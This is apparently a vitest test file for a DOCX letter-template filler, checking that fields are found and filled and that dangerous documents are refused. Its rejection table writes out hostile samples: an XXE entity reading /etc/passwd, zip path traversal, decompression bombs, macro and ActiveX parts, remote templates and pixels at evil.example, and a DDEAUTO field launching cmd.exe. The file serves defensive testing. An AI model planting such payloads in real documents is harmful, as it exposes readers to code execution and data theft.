import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { docx, lineOf, relation, words } from '../../tests/fixtures/letters.ts';
import { letterFieldKeys, type LetterFields } from '../domain/letters.ts';
import { fillDocx, readDocxTemplate } from './docx-template.ts';

const fields = Object.fromEntries(letterFieldKeys.map((key) => [key, `<${key}>`])) as LetterFields;
const field = (type: 'begin' | 'separate' | 'end'): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (...pieces: readonly string[]): string => lineOf(`${field('begin')}${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join('')}${field('separate')}${words('x')}${field('end')}`);
/** A zip of which the directory says that its first file is smaller than it is. */
function lying(bytes: Uint8Array): Uint8Array {
  const made = bytes.slice();
  const view = new DataView(made.buffer);
  for (let at = 0; at < made.length - 4; at += 1) if (view.getUint32(at, true) === 0x02014b50) view.setUint32(at + 24, 16, true);
  return made;
}

describe('a document that is a letter', () => {
  it('tells its fields, also those in a header, cut over runs, or beside a link that whoever reads may follow', async () => {
    const header = { 'word/header1.xml': `<?xml version="1.0"?><w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${lineOf(words('{{organisation}}'))}</w:hdr>` };
    const bytes = docx({
      body: lineOf(`${words('{{gree')}${words('ting}} {{name}}')}`) + instruction(' PAGE ') + instruction(' HYPERLINK "https://www.voorbeeld.be/link" '),
      relations: relation('header', 'header1.xml') + relation('hyperlink', 'mailto:info@voorbeeld.be', 'External') + relation('hyperlink', 'https://www.voorbeeld.be/', 'External') + relation('image', 'media/logo.png'),
      types: '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
      parts: { ...header, 'word/media/logo.png': new Uint8Array([1, 2, 3]) },
    });
    expect(await readDocxTemplate(bytes)).toEqual(['greeting', 'name', 'organisation']);
    const { document, text } = await fillDocx(bytes, fields);
    expect(text).toContain('<greeting> <name>');
    const parts = unzipSync(document);
    expect(strFromU8(parts['word/header1.xml']!)).toContain('&lt;organisation&gt;');
    expect(parts['word/media/logo.png']).toEqual(new Uint8Array([1, 2, 3]));
  });
});

const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const refused: readonly [what: string, bytes: () => Uint8Array, fault: string][] = [
  ['no zip', () => strToU8('no document'), 'not-docx'],
  ['an empty file', () => new Uint8Array(), 'not-docx'],
  ['a zip of something else', () => zipSync({ 'a.txt': strToU8('a') }), 'not-docx'],
  ['a workbook by another name', () => docx({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' }), 'not-docx'],
  ['a file that was cut', () => docx().slice(0, 400), 'not-docx'],
  ['a directory that lies about lengths', () => lying(docx({ body: lineOf(words('a'.repeat(5000))) })), 'not-docx'],
  ['parts that lead out of the document', () => docx({ parts: { '../../evil.xml': '<a/>' } }), 'not-docx'],
  ['declarations of its own', () => docx({ parts: { 'word/document.xml': '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w"><w:body>&a;</w:body></w:document>' } }), 'not-docx'],
  ['another encoding, in which nobody looks', () => docx({ parts: { 'word/settings.xml': Uint8Array.from(Buffer.from('<a/>', 'utf16le')) } }), 'not-docx'],
  ['more bytes than a letter', () => new Uint8Array(2_000_001), 'too-large'],
  ['words without end, packed small', () => docx({ body: 'a'.repeat(5_000_000) }), 'too-large'],
  ['pictures without end, packed small', () => docx({ parts: { 'word/media/a.png': new Uint8Array(25_000_000) } }), 'too-large'],
  ['macros by its type', () => docx({ mainType: macroType }), 'macros'],
  ['macros by a part', () => docx({ parts: { 'word/vbaProject.bin': new Uint8Array(10) } }), 'macros'],
  ['macros by a relation', () => docx({ relations: relation('vbaProject', 'x.bin') }), 'macros'],
  ['controls', () => docx({ parts: { 'word/activeX/activeX1.xml': '<a/>' } }), 'macros'],
  ['an embedded workbook', () => docx({ parts: { 'word/embeddings/a.xlsx': new Uint8Array(10) } }), 'embedded'],
  ['another document within it', () => docx({ relations: relation('aFChunk', 'chunk.html') }), 'embedded'],
  ['a template elsewhere', () => docx({ relations: relation('attachedTemplate', 'https://evil.example/t.dotm', 'External') }), 'external'],
  ['a picture elsewhere', () => docx({ relations: relation('image', 'http://evil.example/pixel.png', 'External') }), 'external'],
  ['a picture elsewhere, whose mode is hidden in a character reference', () => docx({ relations: relation('image', '//evil.example/pixel.png', 'Ex&#116;ernal') }), 'external'],
  ['a link to a file of the reader', () => docx({ relations: relation('hyperlink', 'file:///c:/a.exe', 'External') }), 'external'],
  ['a share elsewhere', () => docx({ relations: relation('image', '\\\\evil\\a.png') }), 'external'],
  ['a field that runs a program', () => docx({ body: instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe ') }), 'external'],
  ['a field that fetches, cut into runs', () => docx({ body: instruction(' INCLUDE', 'PICTURE "http://evil.example/a.png" ') }), 'external'],
  ['a field that fetches, under another prefix', () => docx({ parts: { 'word/document.xml': '<?xml version="1.0"?><x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:body><x:p><x:fldSimple x:instr=" INCLUDETEXT c:\\a.txt "/></x:p></x:body></x:document>' } }), 'external'],
  ['a loop', () => docx({ body: lineOf(words('{{#name}}x{{/name}}')) }), 'fields'],
  ['a brace too few', () => docx({ body: lineOf(words('{{name')) }), 'fields'],
];

describe('a document that is not', () => {
  it.each(refused)('%s is refused when it comes in, and again when a letter is to be made', async (_what, bytes, fault) => {
    await expect(readDocxTemplate(bytes())).rejects.toMatchObject({ code: 'letter.template-invalid', details: { fault } });
    await expect(fillDocx(bytes(), fields)).rejects.toMatchObject({ code: 'letter.template-invalid', details: { fault } });
  });

  it.each(['iban', 'constructor', '__proto__', 'toString', 'name.constructor'])('a field that does not exist is named: %s', async (name) => {
    await expect(readDocxTemplate(docx({ body: lineOf(words(`{{${name}}}`)) }))).rejects.toMatchObject({ code: 'letter.field-unknown', details: { field: name } });
  });

  it('nesting without end is refused, or is no more than nesting', async () => {
    const deep = docx({ body: '<w:p>'.repeat(20_000) + '</w:p>'.repeat(20_000) });
    const answer = await readDocxTemplate(deep).catch((thrown: unknown) => thrown);
    expect(Array.isArray(answer) || (answer as { code?: string }).code === 'letter.template-invalid').toBe(true);
  });
});
